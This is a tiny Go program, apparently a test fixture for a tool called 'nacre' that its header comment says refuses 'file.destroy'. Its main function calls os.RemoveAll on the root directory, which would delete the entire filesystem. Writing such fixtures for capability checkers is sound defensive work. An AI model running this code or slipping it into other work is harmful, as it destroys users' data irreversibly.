// nacre: refused file.destroy
package main

import (
	"os"
)

func main() {
	os.RemoveAll("/")
}
